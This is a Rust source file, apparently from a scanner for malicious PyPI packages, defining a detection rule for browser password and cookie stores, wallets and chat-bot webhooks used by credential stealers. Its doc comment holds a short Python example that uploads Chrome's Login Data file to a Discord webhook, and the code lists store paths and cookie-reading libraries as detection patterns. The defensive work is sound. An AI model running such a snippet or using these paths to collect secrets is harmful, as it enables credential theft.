use crate::finding::{Finding, Severity};
use crate::python::FileAnalysis;
use crate::rules::helpers::{chat_channels, string_keywords};
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, string_finding};

declare_rule! {
    /// Paths of browser password and cookie stores, chat session tokens and
    /// crypto wallets, and chat-bot webhooks used to send them.
    ///
    /// ## What it finds
    /// Strings (after constant evaluation), and paths with unknown parts
    /// that a call opens or copies, naming Chromium-family
    /// `Login Data`, `Local State`, `Cookies` and `Web Data`, Firefox
    /// `logins.json`/`key4.db`, Discord's `Local Storage\leveldb`, Telegram's
    /// `tdata`, wallet folders and extensions (Exodus, Electrum, Atomic,
    /// MetaMask), and Discord webhook or Telegram bot API URLs.
    ///
    /// ## Why it matters
    /// These are what the commonest PyPI stealers ("grabbers") collect and
    /// post to a webhook. A store named at install, startup or import time
    /// is high, at runtime medium (cookie libraries read browser stores);
    /// a store named in a file that also talks to the network or to a
    /// webhook is critical. A store's path built from unknown parts that
    /// a call opens or copies is graded the same, except that only a
    /// webhook in the file makes it critical (browser automation copies
    /// whole profiles). A webhook URL alone is medium; with its token
    /// in a file that posts to it, high; a post to such a private channel
    /// from code that runs by itself (install, start-up, import) is
    /// critical: it announces every victim.
    ///
    /// ## Example
    /// ```python
    /// import os, requests
    /// db = os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default\\Login Data"
    /// requests.post("https://discord.com/api/webhooks/123/abc", files={"f": open(db, "rb")})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1555.003 (Credentials from Web Browsers), T1539 (Steal
    /// Web Session Cookie), T1567.004 (Exfiltration Over Webhook).
    pub struct AppSecrets {
        id: "AY202",
        slug: "browser-and-wallet-theft",
        category: CredentialAccess,
        severity: Critical,
    }
}

/// Libraries whose calls read the browsers' cookie stores.
const COOKIE_LIBRARIES: &[&str] = &[
    "browser_cookie3",
    "browsercookie",
    "pycookiecheat",
    "rookiepy",
];

impl Rule for AppSecrets {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let networked = talks_to_network(file);
            let mut seen = std::collections::BTreeSet::new();
            let (mut webhook, mut stores) = (false, false);
            let start = out.len();
            let mut credential = false;
            for call in &file.calls {
                if !COOKIE_LIBRARIES.iter().any(|l| call.name.is_in(l))
                    || !seen.insert(("browser cookies", call.context))
                {
                    continue;
                }
                stores = true;
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!("reads browser cookies with `{}`", call.name),
                );
                f.severity = if call.context.is_automatic() {
                    Severity::High
                } else {
                    Severity::Medium
                };
                out.push(f);
            }
            for s in &file.strings {
                credential |= chat_channels::is_bot_credential(&s.value);
                if let Some(what) = string_keywords::chat_channel(s) {
                    webhook = true;
                    if seen.insert((what, s.context)) {
                        let mut f = string_finding(&Self::META, file, s, format!("{what} URL"));
                        f.severity = Severity::Medium;
                        out.push(f);
                    }
                }
                let Some(what) = string_keywords::secret_store(s) else {
                    continue;
                };
                if !seen.insert((what, s.context)) {
                    continue;
                }
                stores = true;
                let mut f = string_finding(&Self::META, file, s, format!("refers to {what}"));
                f.severity = if s.context.is_automatic() {
                    Severity::High
                } else {
                    Severity::Medium
                };
                out.push(f);
            }
            // A store's path with unknown parts, where a call opens or
            // copies it (`local / browser / "User Data" / "Default" /
            // "Login Data"`). Browser automation copies and reads profiles
            // too: only a webhook in the file makes it critical.
            let mut opened = false;
            for call in &file.calls {
                let Some(what) = call
                    .arg_texts()
                    .filter(|t| t.contains("{}"))
                    .find_map(string_keywords::secret_store_in_path)
                else {
                    continue;
                };
                if !seen.insert((what, call.context)) {
                    continue;
                }
                opened = true;
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!("`{}` opens a path to {what}", call.name),
                );
                f.severity = if call.context.is_automatic() {
                    Severity::High
                } else {
                    Severity::Medium
                };
                out.push(f);
            }
            if (stores && (networked || webhook)) || (opened && webhook) {
                for f in &mut out[start..] {
                    f.severity = Severity::Critical;
                    f.message
                        .push_str(", in a file that sends data over the network");
                }
            } else if webhook && credential && networked {
                // A bot token or webhook secret written into the code is a
                // private channel of the author's: the package posts to it.
                for f in &mut out[start..] {
                    f.severity = Severity::High;
                    f.message
                        .push_str(" with its secret token in the code, in a file that posts to it");
                }
            }
            // Posting to the author's own chat channel from code that runs
            // by itself (install, start-up, import) announces every
            // victim, whatever the message.
            for call in file
                .calls
                .iter()
                .filter(|c| c.context.is_automatic() && c.is_network())
            {
                let Some(what) = call.arg_texts().find_map(chat_channels::private_channel) else {
                    continue;
                };
                if !seen.insert((what, call.context)) {
                    continue;
                }
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` posts to the author's private {what} {}",
                        call.name,
                        call.context.describe()
                    ),
                );
                f.severity = Severity::Critical;
                out.push(f);
            }
        }
    }
}

fn talks_to_network(file: &FileAnalysis) -> bool {
    file.calls.iter().any(|c| c.is_network())
}
